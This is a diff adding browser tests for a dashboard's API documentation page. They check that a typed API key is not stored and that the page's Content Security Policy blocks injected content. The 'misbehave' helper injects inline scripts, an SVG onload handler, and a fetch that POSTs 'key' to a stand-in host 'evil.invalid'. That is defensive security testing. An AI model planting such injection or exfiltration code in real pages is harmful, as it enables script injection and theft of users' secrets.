@@ -1,0 +1,67 @@
+/**
+ * The reference at `/docs` in a real browser: it shares the dashboard's origin, so nothing else may run in it or be reached from it.
+ *
+ * Planted and seen red: no policy of its own; a scheme named `Bearer`, of which the page makes a user's name and a password.
+ */
+import type { Page } from "playwright-core"
+import { assert, it } from "vitest"
+import { waitUntil } from "../http/waiting.ts"
+import { useDashboard } from "./dashboard.ts"
+
+const dashboard = useDashboard()
+
+const open = async (): Promise<Page> => {
+  const page = await dashboard.open({ path: "/docs#tag/account/GET/v1/models" })
+  await page.getByRole("heading", { level: 1, name: "Sightline" }).waitFor()
+  return page
+}
+
+/** The page tries once whether it may evaluate text, and goes on without. */
+const forgetEvaluation = () => {
+  const others = dashboard.offences.reports.filter((report) => !report.startsWith("script-src eval "))
+  dashboard.offences.reports.splice(0, Infinity, ...others)
+}
+
+it("calls the API with a key that is typed into it, and keeps the key nowhere", async () => {
+  const { key } = await dashboard.newCustomer()
+  const page = await open()
+  await page.getByRole("button", { name: /Test Request.*\/v1\/models/ }).click()
+  const client = page.getByRole("dialog")
+  await client.getByPlaceholder("Token").fill(key)
+  const [answer] = await Promise.all([
+    page.waitForResponse(`${dashboard.base}/v1/models`),
+    client.getByRole("button", { name: "Send get request" }).click()
+  ])
+  assert.strictEqual(answer.status(), 200)
+  const stored = await page.evaluate(() =>
+    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), location.href])
+  )
+  assert.notInclude(stored, key.slice("lvk_test_".length, -8))
+  forgetEvaluation()
+})
+
+/** Tries to run text and to reach somebody else from within the page. Runs in the page. */
+const misbehave = () => {
+  const add = (name: string, attributes: object) =>
+    document.body.append(Object.assign(document.createElement(name), attributes))
+  add("script", { textContent: "globalThis.ran = 1" })
+  add("script", { src: "/assets/x.js" })
+  add("img", { src: "https://evil.invalid/x.png" })
+  document.body.insertAdjacentHTML("beforeend", "<svg onload='globalThis.ran = 1'></svg>")
+  fetch("https://evil.invalid/", { method: "POST", body: "key" }).catch(() => undefined)
+}
+
+it("runs no other script, and asks nobody but the server that it comes from", async () => {
+  const page = await open()
+  await page.evaluate(misbehave)
+  const stopped = [
+    "script-src-elem inline ",
+    `script-src-elem ${dashboard.base}/assets/x.js `,
+    "script-src-attr inline ",
+    "img-src https://evil.invalid/x.png ",
+    "connect-src https://evil.invalid/ "
+  ]
+  await waitUntil("what the policy stops", () => stopped.every((report) => dashboard.offences.reports.includes(report)))
+  assert.isUndefined(await page.evaluate(() => Reflect.get(globalThis, "ran")))
+  for (const seen of Object.values(dashboard.offences)) seen.length = 0
+})
